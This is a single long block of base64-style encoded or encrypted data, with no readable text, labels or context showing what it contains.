j2Px1m8tNuS3QWGdcjDgwiElwGu/B2rZMbio1DykWSlGjd2NEU5Zb/j8jh/RmKez2jZMss8p7SGJGxTLR/3HBW9wxde8YIMVI7PzFec+BfDd7v+8dmukGXqmKSpnYKvH0j16f5mG3+XClIY777CCFuq06tBDbz8Ahm/l+WyUX3oKgxHiUTMHE51gsbXh4dg9GrTDO1UCacHMq6hWQjiauo71/xmKu/9pgusclfP2ML98vw/tmMwSEjWvmf8+SpYfACna5fT17KGs842QqeoX6zgZsrG8WhyrrBlY9skve8ri3Eo/bw6lz4QVI+Yumnx8rgMD5PHihxtrNnkDtjGTltUJYj98G/pu8SkJWtKnNQaJp12pu4ZaA7HrykBh0nzKCEMUE/6ccnvHv9TVFcaiOAaOLY/UrQT50Z8UGW8488ubslh0sXvweBPN4wteYC6xfHmDRcKuS2O+8ZDQjJprp+twNXfolYFFwD6C7gq4Mt3oxqRJctHecKuLeY/lpGw0V9gYaeZP1SkB4Rl6GUPkP7J99sYcg+eVnzqSZkomTjxD5Y2MhhGKf8s+zu5tp8rhPlxeUA4z9EKK8H25/cqsQmdQeDxNqFaecNvpXfl8b+NA7B/xHTuQKl3HFjwnmMJQ/HY3Cj6pO3MKX9YPi4dw2Pry242300O1lBv/t6bIm3+DKXN6CRui2rT2+jp5eF8imnr/8kzibbJtFmzTrkeYOWhk4+zNMQBec8VMrjHeADUn98x11+fScMQthuPheXDrmX9z4pThLb1zx1c3hok5FxUy4mVPaw1WfkFnpvMFNguX9HUorf9TNnnILVJoWfjxvIe9ylVNKcpHAxTYXhsEgMnvEm878f6nKtMR7RAJW1uHup8H2ejMT983/jzK+a/nvJFflstWzwbLNwS7gMbW8SY2pBlD1Oeo0UFEAFDm2i3HRxpP8MhMOPDocIm+BsXOw2mJCkE9zi7+MSdc7mBILeHfOwFLWdsoiyjxpwpHnPhgOrCedXoHgPpNEHHDRhjGdx4Q/2633bZTv/ge1Z6YioIYJNz/Me4TzHGl3zh1yljP7jZlDbBKjr1cZxQedu/KliNDP3x77rxWbbE2SShTuzToisxMHj0RtBnqZqL4FWi9/mD78XZqCxPqdGz+LizPMMajiP6kZl4aYYJ0M81ge3OGb3HzJSjylk6PyZ/hBf4OdKbakRld/6YIv1xMpahv/Mm/WHA3jlm7YIS/wSpdI61croamjpcLcssrPXbbgcO7L+PSJCJnBok88v/54flIH1I3cryqp5Vu96FEMsmIKh3Ls9fjzw/j7D1zfXhJgI+fuZE+fDww5PYdlbE678/I9QY9zk5jaibUu7HOcs2/nYaJ9gPVEQCMHDjp+anf8gdXihnSSLabZpiKTKW5tm/TZHRLaT3h+360+oigK+w99bW+tIKhcUlW5iQ7U1n61j2AnYmdU7hinJfrAFv+8z7AWbEOlv+7BaIoUr+/GUqypWT9uLCdTZ8+O4lkgzpL8MZZfL/Hovnsg4fshh9bbiP8v6xzogxf3AWmjnYrtBGwoNJ/ciEbLBBJaq4AD9YZ+sFteTpXDUa9wLGNuGxtmu228ehrrqfkFyPgeL2J1IgSYIw2B+X2mYkDGn4onDIKvmWbWxjWe/G5wvPgW8Cdv0PzDLyOZY/ANlIjiJtsmfkzqBKcpcYPA/zq/gLNOE+HKet/VI/PG8hyOKHctCce/mxi1cJ284BqD9AVJZScwgCcYuMOGEnKMfQdwsYqHGJBWzy64b8nP4v7eFntl2Jd9AJ29+nAG1Quo0zn+e+P+d0iFphyewe5p9rCUonfPWcb53TvwanUS4TNqX6nSYUrsSFioCxtEkOqzTO9LBKrEK2fXSd3isnyqRRwViY/Y/C16mISD/AlhKpbbtc45F/vkS9bU3qiGBjlDb2m3CHjQu+LwgSmH9/mg5SUVghT+sO/EMd0x/kYSh7kQRTRRbr41XaI5jSsy2Eyaf8VPHjzj9YP9iOTb57YixtbWt3lsGbOsL0PPxfV4yO3c31BVj9WX/8VzdxjSL7Hf4cWzpd7hSV9p9OBWpNTtnbjVu5IZ8zJN+Y6oemcfl6EGX/kEJKbF5mIJdg6trQk8Ihsz/4tl3XvyY19LKFu2b4viQTvo/a6ihbyN1ey04T7AynqcmuAjBuv5t9fiRqOuq89VaroB9PxGqcNmCvX5aO0FiOL04n8YN9rs0gx77ICo8P43Vr+7c3mTreiaC3feem55sGNrXJAVM4j+1DgZcZQ7hxpmfqo9+PYZTVzMfJ0An88f8wx8b40DhLkUDmLrO217myKM6ogaFGNRF2dibqK/jOO51RsIBFT+jgyfOLjGM0nbb5Bcab7zhrP2PCcs/eqYYem9q5sDt67KY370RAvTLWkMob8G9bWD7sGrl/Q768vBjjw44GDAr0LaTw+zf1IWGVrhORLuc3kitIj/OqahLGG2+0b7xcmvXpE0X4YIvMFFth3uM3Lc0o7Osc75vmuPsHt+3fLz8x+9mgu7smC8OTfVhKzImv/pNlwYbhz/C0ZUho5SkAvG0Lc/7YfOo7E+jgNxQyszxOvGp0fJDB7thtylQQ7kWxgDiahzTF9cSgwfWZzfA66p5DVcBnPkm21fNQfTa4DH3FO25QbYsC/NxJ4r0uifFvk3DUvMHX+jLIE9bz+uSScc4ox4yNl4X5/y4W4wz+9GQEfg678NCWHsmUilkVJgD1OG2xnD4FtPw7EO1jWF5//lXXeYO2S+kpy+Nhcfda8vZ6/zHlCmHhQfl72fLFZBmnvwmCNRt5XuiQdsXN77XS60A3uL3XwVF2CmwV3417rt+iiMpVOtsyeDOVdkgn7pXiBI86dL+rSRlDj5CsnNXel4zUxd5p/rap1BJBtPNOkv5Vzo1tFTpgPzQnYdcxmt2+lBjn05/M8TR5w1SXW2jCBmTNb5/vfo0TrB57e7Rxu6CIv3BVNW/FBgXlLJmLjs1kyyt95AiUAh78ZQp6Pl++Spkp3/rr1euXwy0IxcY6AtM07zk9le+AQxNOKbZ0rsUhMJyIltEVQVV/llkpmJZ9GY92xVHv4eeIOPIIK2r1R2jGCv7fZmmknkZjG0+AQeXtzWdDCqtZ+Npi3DmEJq9bpeDY4x1wZIDb23ZyuOkBcUNhsJhlcKnP3rvD+PvMsdKWbMGyvbWYOPDUY9Y9CBhePl9FHk+dsETDf/knWauqmbZLd02gHyL5AqPMVikTWzjLBmmBecJRUb4jA6pT2K+89S25cN3w1pFG9VHhEcKpx3Pr162AObqaT0h1xwZy5B/jNc6wsqxj+6Wmg/5DaKC0UUnb1DwUFTYkvsngKABWDQLJeyG2j9KDlbuvBvjbpNHlH9WtPJGI4oPKfdT0LOQAoJUj6tlU48q4K45dgrTVWJYo2TZcqHzi6D382chj2jgFu5K6p21X4MKD9DefuF8iUFgtVxnjQPjafCoYcrr6HNv/5/+cbT8/Ax2JXE9v/JntOLcOFrPNiN5xyQxuSNZNiOGPN+AGbKyg3ej4c47P4Vd3+V94fb6Jl/ukW66iXiQu571hHBO+nDeYC+zBnEjAun5jW70gEFPcajY+4KQkTvwcL83YibLGNoePcMFmzL+KTfCuiRqdXGbfbr1VlsmG9PHJp9lhSw5RjUUX2TPI1GYEz9UeYWXtmRtG0WPnZCGdYuDyj2kebjKbiwnzwaEFhQBtlCV+u9ADGbMrflsFR7jCZqMBrOUH9vAgq7bsf9te7RQ75NP+spOecZ4E/oVHdSklPAldsCwop/n6hJxXwSsy/hkrDs3Un/hcG/W5qXh+8xyIasQAFid8dKSwXTkyQ8axZ+8WFj4J2ssWSuE4VYW3hALJC7ETl24EBzG+nz3+0ncvGTOJXAy4cz6cDIfklw7/8XZ9uyZc6CqE0udcffwOi6x0C0LLB+DIVEDj1RfGtgm3PMMLpPyz+uiTkxDM1X46FZ4t+/Br7kDPlvlE+TaOYoXLsVsWqrwDOMsCinfMAY4KmjDI+VsNLf0aY+D920EPDcjWNNuHa2M7kqPKvJrBJiUGjUN/LzyuJA/W9hlUirNctX5vv+0vZAf8bXDmTr4V9iLHhwD7ESnW1LbI2dvqTlKf7fPjD5/Tq5Qezo/4nFV1UswA7m+KoTPS5Gb8fSPC9Uw3sG97t7bbcR01gx4Z5tRmW7cM8RvZKaijO/beRXkJ6KPsq/a1wzXUebjG1sKP8kdPpGUctf5yjd/k3JZOxmrt2/qQY33jjlKqqUbmTlDnRBAHReoW920e2rB90hpeIfOxEeYuX0sjW96gQNBF9jH+KZ3iyjxbnTGdaXpPX1Tqq0n5nUstsx0OoZLIf/28zaYcWG4DT9ueBY4P88wbhBGJJ8daxt7J9ZgYQmVlQnTI9k7RX/+97YHadRO7NPs3Ufo7ffyh53QsEjd8OZXm2rqJpMp4CzM2F1lLXhq5A6lpM7kXMJ/47SgZqPho1Vb7VUpwhfCMQp/+HnbmXMnv78olfyZlsQLmcpVDmoANlmsClXT2jxerpmfkdEqzFw7h+YwXe+XGbIYEYyfLks8C9Bv7nLkcrsi/hJHMk2IQo1jmOBTvxs2vmwP8HrEDss/GOSumi4Op39YBGH4IHYuRZ8B4nS6+Jd9r66nAPt62yC+hguJhdk156vrKq9rnsAG5nlBcxNiwXBAcof1xvgsBXxysf03ntSW7Htdj98qqbJes8Vj/zOPHWuC1BVbKGMAzXIhjJrXG+ZWOkXqBpcgfAKiMdAEzTr09dn6y7NTPgNLf3vFfJ8f+HEmK/6ExkgHcycP4WZj5VCVQ4TOONYmVFG77s/yV7tFZIrEx2eVt+06d6o7U+Ndasds+PFFOh73TAjNVoyr7nVJLtjBw7ydy9fqBT0kM5QGRuD5fRCQcmjwKQIb2oYZtcdMGEPw61eIYlseU0rqcJn95ZiijdOIK7DRsIOGTZpAe2o1Ev+bSuLLwJdXhc8Yln/1B6SPfcyIncE6eFJ4EIir2c1egXxZw3+YY/oBcDAPjdScx14BXScHpZRagTqzfwC2Kw+9IO44vewqfI36u+f78M6XsniOrmFzl9KUACMDo6fD9YyyV8uFkH7NqPsbgr76WLCvICmTjNieep7vugZ2QmPq4ybBtVhJV+gOM7Hbe6hxFkgs5D6ZtNZDjxznMdoai2dmKtZq0oH7McV4GvSIqJ+0ZzQ9v4oBPB8U3dw3z58nl9vfjwLaMCyu4GhLvyNbAjUv6dbk1pq+MWf19P6lc8jlapU6CfjhmT9rvHeP/lLQbD+3VDT6URjXbefxVzLMf90C+WoB9bZtFckZysLVpLMKF8nCAkUt2/Qvn+nHW/2mvvJxtYk5AeRDKSN6HGE+ZPJf58J0nJqv648mFVHwJJ/cYvzedeQq6THmh+kvW9Xir5LmNtaoNyafxi9lj7SOXp5et6YsEEMo949I2Jo3j6tCVLsM0jPc+t+RfCju84Y2qfUyJswYBbcvlxPw29gLal89ZRj58AvCuDhEbAYP1WRRfDKoL2Mknutjy9uiIX6Zt7OU8ZmQaGdWfHwuYSOtiHKSPAnItVfnH8G24lfNXOYTGzCL0VW27PeCwSXy3+2SuDtrcNXrLPkWYyu8I6JdWjoyEKHjHzPIrN72NoEi2t2xnXhC68gnsYbO9Tra08fsGG61OlCDAFKMo/f27I4G7bQb4cZPratic5zvYfuJAYtgjwRGIobcm8E/XLzHC1+rQKype65/V6dCWzd7/duIxlqRIcLPhCqTFT/VEsZEsC9bv4slycY1MscA3NXS+OF/oYWOTRF7NOXhoHCRPSIxBW/O6+G17P3Q6msGiwSH4P+uwNldOTNqX8kldTJ0EpM7wE/51pJSzfXQbZ2Ab591HsMq+2xrXPcfpFTUPwvWTLqPDBr1qQmwsszIu2DjHB4auJP+DcQvjYOEM6srYc+8XgrtU/rbln8jElWPbmmW85vvmZ+3lXbJpUvo95TsWldPywYbPPpdZul32qR938Vmv8NaQ5ZGrjdn/xq+JiBYwlkG3XVZdvR8sw3WIskOg+u1Ynrc9MnXLkH97PKUP8TOYBHc08Ykl7C/29f2bcHN1L2H5/5S/bSFBF0Z2nPQmstIq984CnFc6nlGyJdN8SA8LjBmgZRk8FGmLf7WswWDq2fujXd7h6SAby+ZJ74ohgNPvyufxDfZV9llxoA3QqTPawdyPwlg53jkmOUIKpui7XYFVv9kycc7dEGMNm1WTgC0xPwsxwh0rwsRsrH/l1heqJB7cYGJhbNyZCf5nIVtlxCD6yiilk9cVG8PHn3GG9901xX+WbOYmpLfAyyvmDjKyr3HOqUegEz04qu122v5T1pzJaaRLtyeZtHWyZRNCHJxXxhf1/+EOq2i7DpWgDzmPMWEYhIra6+Mvz81An7z9m1HLh02/efXZId+WyfKIn5ZdU6BvUmhG20xFYrA/90fowBfOnHoKbKqowaLmPy3QrLVO3kxbgsWJAIfVQzp8DAdcSBA9O21bDRB9LhAl0POYP+VqktOyhfZ3Agh8vGI9RLatONGQuwWJvBGLplwX8zcyxkVu+vQnMIPIzGk5KQUSRTWP2HeZwXdvt1WfLUXrlw13pN7hseZm2a9h7shQIsE5JNnOb/O3PSfApfI9hPxlEdJ2tGSqKevo5DHN1I7EYQwVwqic2uSjMJu8NXpNOpkvkfKzIV2GZLMt8P4m53MJrbnGZ+s4rt4mCUs1xkotPwM78Fz+g9e3K7L7DNh2hXOz1pyHYsna+QU+gHYWtRm4uG2rFA1sS8dy1bTzZ1aDMWn9NQoE/PBoh2MTIELT32BecNIXzf3vKsMSGKTLtZuzXRZOE6x7+JTpQGqsz/+vtjVz5/99f+GVFCkz6J/AlvYT/SZtD138+Mf+jCfWodGkr0FdJAL5P8Sbd/iqGANQjKaqI6w5ikMaAbsXid2qdQy1lavTOY75rUlftt3Xajwkx4lhyeMTn/Kztnyc0LWVWBJCHLTzr8Is8pb7Bw54NDkFS0XL8jG6lRRg6UiUdJcAkIU17pAleOEGrOSl5MMZG8z88Uf6SvffXLuIgaSwd1oo98WfjEW34UbJDnnqFLcyt2dhQt9cWGXq8ax/sHTGzzKopqanoClt3+R4fxMAogKUUWq3cQK+ycfKSx2ThvvroGa0Mm4GRmCbLMA5vytNsrPsmGV73CZ/rLuo8t+zIacUTKxyHX+YzNlIN62yJlyB8WlDRdE/Vzf/dh9p5thC2zBA/v4SwzJyG4YHPUza/Rev8z/QMu2TpBMgJ0c7uqwpqr/fY87NkvIXKnsg2BjSbzTrLjH0yjQ1lvVZhR0uhWeRtmf3xIqqsT/bLyn27EvkjDS0CVFLBor9wcjCj1PWR0AIO+vpgi0xnXPYIktgkwRIxy/GZXQm6gyue8/ZnpN5Kr/JjHvmu4QYnlLz2QzlWH/IxzwP9prMtAbGlmlxxp+8TrP5/wPH0nC++u/fFrJmg6Q9O91aOHXsbawxWMBo0QK8w8IUCyhCsPB1zg168Kxw2AHHocETU17oEYQd7wZZeUmTgdUuZQvCBfgkp7Nyfn37MgFCQLA1GW/2R6twYSPiIBiIA5MsSkAyIvFzVtZ3q+4xFhjkWt6N6wRfu7H/E8zMXUvWbx3EEUg4R4mCbtsjjbg1XJO0nXCdzwfv1iy6MfzyHuj8fSPZ2PlNJlkaF7uUGhSc021SZnvWwuLAtb+zRfIXheStx7VBxesg9FM0y4y5LniTfIj3Esa1PFLBh4v3viScftYyVtoISnb3CL6OWXPy7+73OxOhwP7D2zWTR6JWLy+iBFjJ01lKRRJ6lJF4bYV19dBslbuPZRu/1rEGfYW7P+RV9vaWuDuwX+3MZ37SbShrg2FYzdGeyjSNeU9b4WTnbk7qZHPLaGj7eOzDWciN97lVTBhoAn0/Tj9gZJBJXwUj8zBk7uRlFla3wGDagxtx7DS8cPJe3DUyI84nM4m3HRmdDgMnwRvZRhtzQrrnhOfVwZqv/LO8T78N6wQ2kX4MtrYjZhe7KIi/6RLzjAM8TtkqgxtPgX71QcZ7qMntb0rD8Aa5OUBBHel9n1fUNPY9lMsaLsauOtYb3/1DGc/zn6XsEn3EtRpeGgPznjXz0vAZG7ennORX5gN7H1uM0X3GgTOBx+pr7385bhWDCoWF4vxfM+32tvjj8Be2A932i3amx8CplSw70uVS8v5le7QvYmkD7rEyuUJOWWzmmeYeqISZUrq3jJ5ihGAMeq2xoMucDKQ6jHW7lhGQR6Sg2eZcSeYSpUmCfNx1npfs+zkqxjEyBPw848s6il+6RN6C1AAitr2iPjTxOJVpAk6Gr+KAt7z+Kr7xmve8RnzUeNrJnvZpPmyMPHZtmMT8/g4HulaN8Nck7VYdf5c4dpy8VkU1WdKxMsHleaaa4CulD6TZ51lw3T4v0hw17nxyewvTcN4ZNx48sO6WlXZLIXN4m+i8UG2yL3prwaaR/PNrOYD3oQo+F3CzqfENUv4ruXIghmIpIREGfbRt413+w4AsYzvOJGCWSjlnPPABz6zjX0gK235OlCl9KoolZ+Le+uy/1HsAkU+1Fu6LT041/yilXJpOZ8OWfQEyNT3W36BLX6e6xht30fKcrM3Yd/pnZqvT7jItClLkU9qIa058NeYc57bOimwSxrfY/8T+8X9c0sYVtsbUXBAk/azg7Z7jDB1EzelyLZFluD62yWBqKBBCVN4ioOKMkPbxRnXvTBiQ09kfZ/3yQtTpwqZaWZbusQw2xdeWfr2Yy08Nm3HbjW2wx1dxo1B8uOcfv8oFChqluguGa6pCxo1uyYaMg90Q+yWaS5ImmS1NehvcxgiLo+iKW1XHl/e2A5nEqT3wa9mtTqPYDSoqkhE2X+zGSsOp6pqrMgzlmY3g2ifrXPI36Q25c34sJNtz3gd+tuzv0gKl3ZU19vi7vHQNvGNj+UJA/Q/+TishDwwU2iuHD5lJW5nfp3/0oSWSIclA+whjlL+soaPsxESJhUFxjBXzFAvG+HMPCNhuNOCTrGXBBLaPDERBqS4TFt7SR4TnDH5ZnmU2wn7Sfr/xo0/px2tE2hbkf7+al6IWWCCDPAg2hvwLigRoE2Erff3rdieoJpikqe+RmS2Yx4XImZHhN+/xzlbYmop1UcC2vRhc8Kftwbc//NPWOqqJHZv4wcyncatsHLBWNifsJ1fhc7ftD5ZPov17zJQklmLEX8mxX5LOGc45fPwks5AO7WObZvwgjcS2v1VfB/pcLvvXP5jMcvotidNeAgLNsEXwvI0qCUTg4ew+d4SHkQyWhmNWskzJdz/ZpaCw7GPK5074GA+u9LPEuEvAu5lZSmnaIAKE6SdMveCo/AWJY5xFXrujxlvYwkSHR3ujp6FuHVvpJUsVnH8akJwSZiy7mn0kQnd+IyqEJ+8W/v18vqxW5ynoLH/S3r5Yc0N+L4Iy2j9f+zylHR1Wqsy+ab/IAnPLn+pW+3xduLKd0u/euxrlmPTIQzb1E/DB/pdQQmuMVzEXF27xisu806Wjx6QnwYgJOV4bHHyIbHLsJeWaZfCGRNCW8B9YpPMhiMQ0H4ad0maOIRJjSoO3K1kODT7j3d8utbjHJ6Ydy9s/PMtg2jOT3yHmwRRZznUp2eU3rkkbgdclfZ3rpB1Ti2KXo/2VXZri8xvjS3Fs2zYy4ERYzcxFPmytr6ibWf6x0lqkO+hT+AlBjglJnLHUW+qED8jPvnIKDNfFi/ue6d3i0qNgaKpn/JCZ8QDfzaqqAed6eq45N2dJXve3e0yMoiQ7s5UiDXI+NfJHBOL4OwFrsrTVQWeMqkhuF99J4tS1bVk9U/rxrrRjCwbA/C5sMVN2o3188llSptdwldqdV3Vbm8R4a2MJhUsU2F8IN8Pdbfh8wgJc7LBH9vNfou6m4UTY6Z4tqpyO1WkmshLTCx8T25Rrt+Yr40zzcYZXV3VrW9gl61u7cX4gkM+9AouvESdmDzbHeC1gGvCXvqgMfXKdLjk8/GRwgFjL0k7fttkNzm8IYjcCYO+M89LxAoRYPw4M1ygl8RFGkPe/R11TIJiu7yTJOU65zF9ctcFzjzE7ieYffZ6ZIy8JaC+z8ZcuJGy9XTGDucxP2xaiJSki4GaSL81oL+uZ8tnkmvBHU55P43HYZKYkk0Llj5/ydgofA4G1VAx83wYwsvD0QUMVhR1jvHP47fKdEvU7WTdwwL/RrRx054js8HGJth4BLmr/v+FMRgHwQpgjk+jJRli2OgiNggPInTZvGAE7rr2ZVP08jngIJaHDAzHfdwff+zVR12k3R/V3puJmHweu78iOcPLdtyKw8avYDapKPkawsRPaaKyDv4QEzKaen+U2llT6SYPX1FV5+XPpCHewoREnFXUoJ0f3rIl9wfeNsP+j0h/6nmfKth0QiF9uKwKs2h9e2rYbgwBmzbZtYxkZk+4U6rb/LPyMTtkJ5mBqgZMlvEz8qWINu5mMOZaoPTQFEtb0Vg3uH2jbJkkiGMVkZHrpf8k8k6/SRJvKgewcaC/LwlpYvp0ff34zB4FvMUuRfc7WsbL2ZVZgCrP9HUuq+VdSC1KGj+CgWxbBVzbintpfpZ13tCwHEpuMwglyY871Nxfw4sk2eVrDS6wqId4+VZ3X1LO92/dDQ+Rx6cq2fha23JVxUs+zslL1tOz/BCrhtLuNNSSfJqCmjdNFMi6dFGaer433R/fvbZmLRhvO4TlyhTEBTvvCaK5qvW8Qtr7KcwJm5u+8O6F/amSf/nd0sT64pIWVcwTj37syibH817Xn6KuQbNJo4Gzw+Q7Bh8xZAtuRMq+dRKN9ZKHnE1jap/x5/76YYxeeE6VQWhsuPbF9pIQiBbNx8atrTuhegxe+wt52YYh3HRsZOjCDPr5hKZzfy5VlHz7wPR+Yr7ALUkbz+qkqzSiLddK5tTdazovdnqN12tTIDPp2Fi0fr9o7DV5Kf4w/01yy/5lBn27MQ9uVkZP3tmGPbWkaIzzIg9AB6ffb4zXYcWJRyC5GkbYiH95ZGcVlW6+/fEvfrX0/9w6rf5ZXW5V+6ZUse9PFGI3HrPkChrt87zGjmZFlUQrzKSsD0C4KRc2koMwHshk8KFYiuVDblkl6jjm/thQvXUr4tIzupK0kVmG7ar8jO21HqlqXNrbMCD1HsNj/bIeBF1dMVU5GjU3jBm0bRO3lpz4VeBuO+u64B/DC9Zd3cJz5/JyYQ5cZW8jMff2HTvSW5uAQw78Zcs9enrA23P8/vRQe13zEBqq8fIR5dlnVeNo0pi6RPthMYErDV9/1kc4uPmWsIfm2wlBGSlar6euVmvgYk1cCrDlCjqZAV4yIUvQze653OkAyn4iImyrFouy0sjoKK72T0sOEkwcJtj0+DOGx7WUx5Ehzobc9/MczmiVgFUcMf0+VMIKMXVP2Jmx5oHpQPRGh2sNJgPbLsRZqKeNMmd4zbq19LrR54eg82s6XwDo6cqZFZrsYc7j/i3VLi99rxkWhTMagFF4jHGEc+JwueG2/Omb0dTIVJTAlQLIsM3LkrqqP0R1NzQx43gfbJbhdiU5Y/hIJccLoAddM6mcvfmZKDoYMjBNjSGFsGsleQvkYkKyaHY1dmUW5RBJ3bMtpwq3+ema4LJk5ssefFSKadm25yyweXx/puv15HlaDA580bEkKwT8pDGDzy7eAWsqwcPxOXx+7VuLfyxKW3nwcb3y6PV+eT4HtsqhWY79/eAyG7PGBs2XnZg4eo73SAeEsVXVILr1XkO9Ax21F2FyPMXsgw+e107PwiPXMTCnOif3++f/JL4jJPMPohINzcbgzlVWedM+/L4sySuG3YUwej+WyvVUA9R+fOk4F4IWPN9gJLF1ZZ8z+ZEMng10+MtbgvV967D0cHvj/FcQsPcrCXTaYQxRG6qcuJNfGvkyKZLO484Mr8eCEEvsVpMQxia27MQ47QZbbsc9WXVDq8nYswyJLwPjmYrCUmM/Y38fjqtaRXZXHY3FZbK70Q67sW4P3ifqvTWK8KHEPyL81vDQV7bzpZWU/CfxPXCMPFmnZ38H1H1K2lzcWtnerlyw9m0n4Bv4HLj3QMsQcZ8JxYuwTz3jQZC48eIP8R933O9QDDjqhEHgDJo+2wVa9v6y8NnpeigyB7ju//ceMEf9AbNzeiI3NNTB2A961tT5cc6YlhVxuf0MztgWXzJtA0G5o0lKbfP4FC9k2z4DtBfZBnCUq84euyzpuztwo612ZGKRjg7HN6cg/x+Ib3vXL9Odh6xRAeKiDxWE5R+zP9qZGNmUa0lfiaSzUFOuAOnPD7WOctG29r7160ZchMYg5E5wuJixAVeY3VVDyEbIEMRkWti+nyALupj1o/MYA9J/y/wPnD5nGNSPJy3ZS3n8FtkYebUUp7aJM9jn/Ej1GtMtkwbOotoVs1cpnh+em4SfkArbjY4QZ+uB7S2D5+R/h70NC9yv8UrjComcS/XcJNIvQjO6Gar6NqyI/WdhQngFbsCjcJeOT/ilwCi+by/irZMzZX+r6NNawZ2ufxvhlVDtZbieyjzLDsL2OtOhjI2oV5W0Q+NSkXgq7T0CrJc2PLgJp4zLq/1DatdkLycIMpLDRsa809Ii5QcHeAbnZxJZCmDjOV2Ass++UBnvO62cPGleVfWgNr6iE3IvLJh4y6c3UgGUgFvn5hNW/y/brb7xIo7R77LkhYNdgewdlWcj4uzX3ovTASXpIv/o15lNgoPeJG/uBaAec4RBcEZxxNwporGk5wQlh8TR2b+unf4sYX287mh71axD+SSbJVM4mFmoxc+Y/1hg/dapjtQ/kjE9PtSCDiuPi/sNgDmveqVG+/3TUorbcb1ITxPerS+I4SZfVh5zyJqfs3c04KQN9fA+2pY+yqRDoXNL+KLPP4OMfeWcWQQ58MnH6X4zzme3/Yv/ILS76SgC/rfRNHaZqG0hR1PR801WZyjFlVdbB4cpE98dV1UIR/sBXty5lwTv/4DMVRhhANbImNJXNt5zG9n2I5zYWB1tXAzrYYRtfPGgf275HHyY9nSkeGdhfaU5GUd46YPwkHl8uNzXlw8TvvvhkE7qce7U5PUIrTWKWQc4wBzCjgd6JJza8moTbnXiRjtaBIM9Rd8etUl7pj/ejDvynMt12vSNqPAsYjxps96yElGJPJaiMlb42e42mmH3IJ21PfWu3+EXGmTlLRpTNmjdGBvP2iJhzsq7/hPAbTuby1Z7gRE4KZ1quDvPzmKKGo3UhLzqYOulay3FPCiKk2BnAjp+2jAIrvDTpyaHJYwUUbIfQdoauLWX2WE7QtBuRuTLu+Y7HBds5/co3LjW/7YulLsajngc/pRSjja3znMElwVWkOTGjMewfVjBTA/eVvdLYxS5ikY4ed6bCSY3jum9qjNfoNmB5uhrMIBIsRBtbOXT2Nna20gjf2Z+0JiiKMN2dlpwhjF8O9d964iRX9zGqcHvbGFmyKxhr5pKdv2Nues3SCGOTLDyWvz+1GVbeeIdGuOPLk7+nYCdyCf+X4NOfw13VoYPDKVJYFqttwWjkqCFuQ5KrbDPbM6tiCn0+VbwlysWwFt3TJH3WVKBljaqNOfyuD+DIKcytgvUnLo7/i5ED/USIfVwpewTb1n1YKx1abdtSMc/M677kVkntYeP/r9IXTSrpvtX/yOlHWif5PuROM+TKuDCV+CsvM22YqjN+uQeft42rnN11u/+M79xz6D/laPPwdz5JaJlPGljIjnwbbJi2SFdT/kI7a+dVK2Il5cPzL+Y3kGnYgBiTrlZJMiox3xum4F7AAsJpgKx04MRtS4V+0owPJvh+9ClTnngO2/rCnHQpaNBWnoTnHW4F2Vdet55IEWksk2ZeWnzxAqjH0tSj9GTycvKiPuf5uTazv3rufrjCq5c0yR5Qf+Xz2U8+76bpd1OgHkjP5J/eZ+1TkidtzOjXD8+pmBy7JmDgaB7hZqs9Pvv2Bdm/zvectBz5JkiSNbvVy1HrINUUuakc54B5eRP33VW3f/2ZrUytjXYvadvTE57GKFWq4USC9nmEQ21HhvadsrdFUn1WK1YGTr7n+2xfqmUjJpdNenB4/Y5KEqtpIsIMGhpuHA0d6l4Hz+Q47ybS8eTEM9+8+15gTr3S+zj59rn2oneThEEUfJ3l0+qlYuojn7N5WnRyNdr8+Pr7Pvu9PXP20P3LxJQf+Ic9B7/2oqhpmh6bZmjkfd3auYhyGjbd8DwNeqovtuKnVHnAbeKIBJ9Ozwt3ObeNf8m3lEZO8VzInGjiJ4/kTTiTNl0HkqQ9nfJCyTRn6KczNHutNUmtUdrhJdXtSWttN0/nlwNy9Rs9p0hHksdcGthszDZ7y0q7DW7TJyIlnBp+ohfvT0ZFx/op1p7QvudCIu5LEkafA3+M/VoN+ds/9q2JCoBt8/sRiRKEqf1Z+BmNeqJZU6Un06cz82Oi3F1stoZYmV8ntG7AWa46sO22gkMgb6DPL8fqpWkwCfyleYt9rz0S7DlkYGYgK2Hf5unQns2RXHBg8vgZix4lDXf05tP1k6DWkr3VwHDn5uGpCQnal5YmM4cmjzzDKUFJPB4H6CUyY/2SFK/Mhq1e0B/HWz37o4XsJtbYQysM5r1mIF99XG36sUmMWPlyidy2716Sar43iUlc3C+JNTx7BIi2WZIhe65weZv1p0nIgrF+dvO8Au2XGeTuXsokfUQHx3YSYjwBp+8+qt/32RDcJOcqxquLtlJN8/TcBc5zYqZHYgdQdJCfdkiSRwoXtE3PS80pNGpIbGllQzVJaYZ5ydMbjkiJxvvaM59KFavy+1ucZLcoWcZcYnj7VsYeFL/PbmU40t04N8rDj0aeFQinerXzRyo6Ynf4O9Q0atIeMcV3SdvYp7/Y54qJ6gSrL/t7NOk2ZK3M1G3erUePPrTHCzEFoiEmw32ejaUJY2p9Tj/yHAitw7Ge8vRoHwHCr8f5ZjTJ+ZX2bu80DTtJydniQWw4DMNtIaH5KpsYt/aX9DGwnrhyOhXpXJ600jVVJgPkt+4Jf0YwvyQfFLum4rnVK2cDP8gclXYBz3k921eyF/vNnNNKNusL6rNJzr2yvujJ8Pu+u55bJslUDDOiqT95WZOazvFbCefuO379d/mzQ2RAfejEw6CtfeEmyUDmHPP2fU9J/hoSWyKOsh4qzyMhPjeG5KvYeI4Sd7+iCfSyLfVtzSfc5RlLtX+RueFmePc8J3gBTdfkV/2FvuSiOtPPUqOANft0czX5ct5EZ6itvDfBIy9yM4wjzpimIR4zkKRvbfebbNoK2IsJkXq5kAKRpCEbVLLbeiqZ5LjBnKc1bcvhxhKVvMNz9m2+FVCNFN5xXMXj7E7s0VieKujRxk/+Es8/u8FQ2+axW1MOLG2+T+Sd+OEsMEEfP6jIWpl/0mr7N01U8RFe1vY5bNSIZvt+563ZSxzK10IVbXjxlB9E8+Qhww9/dzbvNguW5gu7H+JQO8ichzzDu8uhTtrbfi/exNZHz/kK/8g/5Yf4dShnriVt9oPkeBXcwQwOHNyTLYfoJSttWjs9fp2IS2062DMttpnD9DKkv1/Ih3PCj+9ZOJ/yGfjMmhru2ZzqFS+9rt88HWO92vCvA4w8jdPb3fVmiEIlEmzSQD154w8kFpkpSAACR1Cb5S9w5qUHpPOErEPCexkwj5omH4xj+6Rf/XV3AHh2X3WD33h+6mHavHtieFzZbD2a8fnevDs+uxrj29r8FkV9/vDca334vJu/QS1y7PdRjWIwT5dAPH6c5eSt2sNT4o88kui7kcNNUhWa5hKyJ5znpRl